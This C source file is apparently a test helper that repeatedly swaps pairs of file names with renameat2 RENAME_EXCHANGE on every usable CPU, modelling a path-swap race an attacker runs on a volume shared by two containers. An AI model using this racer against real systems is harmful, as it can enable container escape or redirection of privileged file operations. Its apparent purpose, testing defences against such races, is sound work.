/*
 * exchange once|for-ever A B...: exchanges the first of each pair of names with the second (renameat2(2), RENAME_EXCHANGE): once, or as
 * fast as it can, on each CPU that it may use, until it is killed. What an attacker does with a volume that two containers share.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/syscall.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE 2
#endif

static void exchange(char **names)
{
	for (int i = 0; names[i] && names[i + 1]; i += 2)
		if (syscall(SYS_renameat2, AT_FDCWD, names[i], AT_FDCWD, names[i + 1], RENAME_EXCHANGE) < 0) {
			perror(names[i]);
			exit(1);
		}
}

int main(int argc, char **argv)
{
	cpu_set_t usable;
	if (argc < 4 || sched_getaffinity(0, sizeof(usable), &usable) < 0)
		return 2;
	if (strcmp(argv[1], "once") == 0) {
		exchange(argv + 2);
		return 0;
	}
	for (int cpu = 0; cpu < CPU_SETSIZE; cpu++) {
		cpu_set_t one;
		if (!CPU_ISSET(cpu, &usable))
			continue;
		pid_t parent = getpid();
		if (fork() > 0)
			continue;
		prctl(PR_SET_PDEATHSIG, SIGKILL);
		if (getppid() != parent)
			return 1;
		CPU_ZERO(&one);
		CPU_SET(cpu, &one);
		sched_setaffinity(0, sizeof(one), &one);
		for (;;)
			exchange(argv + 2);
	}
	puts("exchanging");
	fflush(stdout);
	for (;;)
		pause();
}
